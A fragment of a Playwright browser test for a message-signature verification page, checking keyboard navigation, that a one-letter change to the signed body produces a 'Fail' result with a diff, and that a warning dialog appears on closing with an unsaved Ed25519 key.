  await page.waitForSelector('#verify-output article.result');
  assert.match(await page.locator('#verify-output article.result h4').nth(0).textContent(), /Pass/);
  assert.match(await page.locator('#verify-output article.result h4').nth(1).textContent(), /Pass/);

  // change the last letter of the body, add the sender's copy, verify again
  await tabTo(page, '#verify-message', { back: true });
  await page.keyboard.press('Control+End');
  await page.keyboard.press('ArrowLeft');
  await page.keyboard.press('Backspace');
  await page.keyboard.type('E');
  await tabTo(page, '#sender-copy summary');
  await page.keyboard.press('Enter');
  await tabTo(page, '#sender-use-signed');
  await page.keyboard.press('Enter');
  await tabTo(page, '#verify-button');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => /Fail/.test(document.querySelector('#verify-output article.result h4')?.textContent ?? ''));
  const first = page.locator('#verify-output article.result').nth(0);
  assert.match(await first.textContent(), /The body changed after the message was signed/);
  assert.match(await first.locator('table.diff tr.change').textContent(), /AlicE/);
  await page.screenshot({ path: path.join(SHOTS, '12-keyboard-body-changed-dark.png'), fullPage: true });

  // the Ed25519 key was never saved: closing the page asks first
  let dialog = null;
  page.on('dialog', (d) => {
    dialog = d.type();
    d.accept();
  });
  await page.close({ runBeforeUnload: true });
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(dialog, 'beforeunload');
  assert.deepEqual(problems, []);
  await context.close();
});
